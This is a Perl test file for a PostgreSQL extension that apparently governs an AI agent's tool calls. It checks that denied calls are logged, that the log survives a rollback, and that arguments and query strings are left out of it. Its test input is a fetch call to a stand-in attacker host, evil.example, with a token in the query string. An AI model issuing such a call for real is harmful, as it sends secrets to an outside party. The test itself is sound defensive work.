# What agentcore.log_denials writes stays, whatever becomes of the transaction,
# and never holds an argument or a query string.
use strict;
use warnings;
use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use Test::More;

my $node = PostgreSQL::Test::Cluster->new('main');
$node->init;
$node->append_conf('postgresql.conf', "shared_preload_libraries = 'agentcore'\nlog_statement = none\nlog_min_duration_statement = -1\nlog_min_error_statement = panic\n");
$node->start;
$node->safe_psql('postgres', q{
CREATE EXTENSION agentcore;
SELECT agentcore.policy_set('p'), agentcore.policy_allow_tool('p', '*');
SELECT agentcore.tool_set('fetch', '{"type": "object"}', url_args => '{/url}');
SELECT agentcore.agent_set('bot', 'p');
});

my $ask = q{SELECT verdict FROM agentcore.call_begin('bot', 'fetch', '{"url": "https://evil.example/?token=secret1", "x": "secret2"}', task => 't1')};

is($node->safe_psql('postgres', $ask), 'deny', 'denied without logging');
unlike(slurp_file($node->logfile), qr/not_in_allowlist/, 'off: nothing is logged');

is($node->safe_psql('postgres', "SET agentcore.log_denials = on; BEGIN; $ask; ROLLBACK;"), 'deny', 'denied, rolled back');
my $log = slurp_file($node->logfile);
like($log, qr/LOG:  agentcore: agent "bot" calling "fetch": deny, not_in_allowlist/, 'on: logged');
like($log, qr/task "t1".*host: evil\.example/, 'with the facts');
unlike($log, qr/secret/, 'without arguments and query string');

is($node->safe_psql('postgres', q{SET agentcore.log_denials = on; SELECT verdict FROM agentcore.call_begin('bot', 'fetch', '{}', task => 'allowed')}),
	'run', 'allowed');
unlike(slurp_file($node->logfile), qr/allowed"/, 'what runs is not logged');

$node->stop;
done_testing();
